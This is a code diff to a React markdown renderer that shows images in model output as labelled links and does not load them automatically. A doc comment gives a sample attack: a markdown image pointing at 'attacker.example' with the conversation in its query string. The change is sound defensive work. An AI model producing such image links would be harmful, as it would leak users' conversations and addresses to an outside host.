@@ -14,7 +14,7 @@ const MarkdownView = memo(function MarkdownView({ text, className = '' }: { text
         components={{
           // A link or image whose URL was blanked as unsafe shows as its text, not as a dead link.
           a: ({ node: _node, href, ...props }) => (href ? <a {...props} href={href} target="_blank" rel="noopener noreferrer nofollow" /> : <span>{props.children}</span>),
-          img: ({ node: _node, src, alt, ...props }) => (src ? <img {...props} src={src} alt={alt ?? ''} /> : <span>{alt}</span>),
+          img: ({ node: _node, src, alt }) => (typeof src === 'string' && src ? <ImageLink src={src} alt={alt ?? ''} /> : <span>{alt}</span>),
         }}
       >
         {text}
@@ -22,5 +22,25 @@ const MarkdownView = memo(function MarkdownView({ text, className = '' }: { text
     </div>
   );
 });
+
+/**
+ * An image in model output is shown as a link saying where it points, never loaded by itself:
+ * `![x](https://attacker.example/?q=<the conversation>)` would otherwise send the conversation
+ * (and every reader's address) to that host the moment the answer renders.
+ */
+function ImageLink({ src, alt }: { src: string; alt: string }) {
+  let where = src;
+  try {
+    where = new URL(src, 'http://relative.invalid').host.replace('relative.invalid', 'this site');
+  } catch {
+    // not a URL: shown as written
+  }
+  return (
+    <a href={src} target="_blank" rel="noopener noreferrer nofollow" className="md-image-link" data-testid="image-link" title={src}>
+      <span aria-hidden>🖼 </span>
+      {alt || 'image'} <span className="text-zinc-500 dark:text-zinc-400">({where})</span>
+    </a>
+  );
+}
 
 export default MarkdownView;
